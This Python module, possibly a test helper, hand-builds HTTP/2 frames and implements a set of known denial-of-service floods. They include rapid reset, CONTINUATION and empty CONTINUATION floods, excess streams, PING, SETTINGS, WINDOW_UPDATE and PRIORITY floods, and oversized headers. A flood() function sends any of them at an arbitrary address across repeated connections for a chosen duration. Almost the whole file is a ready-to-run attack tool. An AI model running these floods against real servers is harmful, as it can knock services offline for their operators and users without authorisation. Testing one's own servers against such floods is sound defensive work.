"""HTTP/2 frame by frame, as no library would send it."""

import contextlib
import socket
import struct
import time
from collections.abc import Callable, Iterator

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, END_HEADERS, ACK = 1, 4, 1


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def setting(identifier: int, value: int) -> bytes:
    return struct.pack(">HI", identifier, value)


class Connection:
    """A connection that has said its preface, and its settings: by default a window of nothing for each stream."""

    def __init__(self, address: tuple[str, int], window: int = 0):
        self.socket = socket.create_connection(address, timeout=10)
        self.authority = f"{address[0]}:{address[1]}"
        self.next_stream = 1
        self.encoder = Encoder()
        self.encoder.header_table_size = 0
        self.send(PREFACE + frame(SETTINGS, payload=setting(4, window)) + frame(SETTINGS, ACK))

    def send(self, raw: bytes) -> None:
        self.socket.sendall(raw)

    def block(self, path: str, *fields: tuple[str, str]) -> bytes:
        """A request's fields, none of which the table keeps."""
        named = [(":method", "GET"), (":scheme", "http"), (":authority", self.authority), (":path", path), *fields]
        return self.encoder.encode(named, huffman=False)

    def request(self, path: str, *fields: tuple[str, str], flags: int = END_STREAM | END_HEADERS) -> bytes:
        """A request of the next stream."""
        stream, self.next_stream = self.next_stream, self.next_stream + 2
        return frame(HEADERS, flags, stream, self.block(path, *fields))

    def close(self) -> None:
        self.socket.close()


def frames(connection: socket.socket) -> Iterator[tuple[int, int, int, bytes]]:
    """Frames that come until the connection ends: kind, flags, stream, payload."""
    buffer = b""
    with contextlib.suppress(OSError):
        while piece := connection.recv(65536):
            buffer += piece
            while len(buffer) >= 9:
                size = int.from_bytes(buffer[:3])
                if len(buffer) < 9 + size:
                    break
                yield buffer[3], buffer[4], int.from_bytes(buffer[5:9]) & 0x7FFFFFFF, buffer[9 : 9 + size]
                buffer = buffer[9 + size :]


def rapid_reset(to: Connection) -> bytes:
    raw = b""
    for _ in range(100):
        stream = to.next_stream
        raw += to.request("/whole/orders", ("accept", "application/x-ndjson"))
        raw += frame(RST_STREAM, stream=stream, payload=struct.pack(">I", 8))
    return raw


def too_many_streams(to: Connection) -> bytes:
    return b"".join(to.request("/whole/orders", ("accept", "application/x-ndjson")) for _ in range(100))


def endless_head(to: Connection) -> bytes:
    """A head that goes on and on, once it was begun."""
    begin = to.request("/", flags=0) if to.next_stream == 1 else b""
    return begin + b"".join(frame(CONTINUATION, stream=1, payload=field("x-a", "a" * 1000)) for _ in range(100))


def empty_continuation(to: Connection) -> bytes:
    begin = to.request("/", flags=0) if to.next_stream == 1 else b""
    return begin + frame(CONTINUATION, stream=1) * 1000


def empty_data(to: Connection) -> bytes:
    begin = to.request("/", flags=END_HEADERS) if to.next_stream == 1 else b""
    return begin + frame(DATA, stream=1) * 1000


def field(name: str, value: str) -> bytes:
    """A field that the table doesn't keep."""
    return Encoder().encode([(name, value, True)], huffman=False)


def large_head(to: Connection) -> bytes:
    return b"".join(to.request("/", ("x-a", "a" * 15_000)) for _ in range(20))


#: What is sent again and again.
FLOODS: dict[str, Callable[[Connection], bytes]] = {
    "rapid reset": rapid_reset,
    "more streams than are allowed": too_many_streams,
    "CONTINUATION": endless_head,
    "empty CONTINUATION": empty_continuation,
    "PING": lambda _: frame(PING, payload=bytes(8)) * 1000,
    "SETTINGS": lambda _: frame(SETTINGS, payload=setting(4, 65535)) * 1000,
    "empty SETTINGS": lambda _: frame(SETTINGS) * 1000,
    "acknowledgements of SETTINGS": lambda _: frame(SETTINGS, ACK) * 1000,
    "empty DATA": empty_data,
    "WINDOW_UPDATE": lambda _: frame(WINDOW_UPDATE, payload=struct.pack(">I", 1)) * 1000,
    "PRIORITY": lambda _: frame(PRIORITY, stream=1, payload=struct.pack(">IB", 3, 1)) * 1000,
    "unknown frames": lambda _: frame(0xEE, stream=0, payload=bytes(100)) * 500,
    "large heads": large_head,
}


def flood(address: tuple[str, int], name: str, seconds: float) -> int:
    """Floods over as many connections as it takes, reading nothing; returns the number of bytes that went out."""
    sent, deadline = 0, time.monotonic() + seconds
    while time.monotonic() < deadline:
        connection = Connection(address)
        connection.socket.settimeout(seconds)
        with contextlib.suppress(OSError):
            while time.monotonic() < deadline:
                raw = FLOODS[name](connection)
                connection.send(raw)
                sent += len(raw)
        connection.close()
    return sent
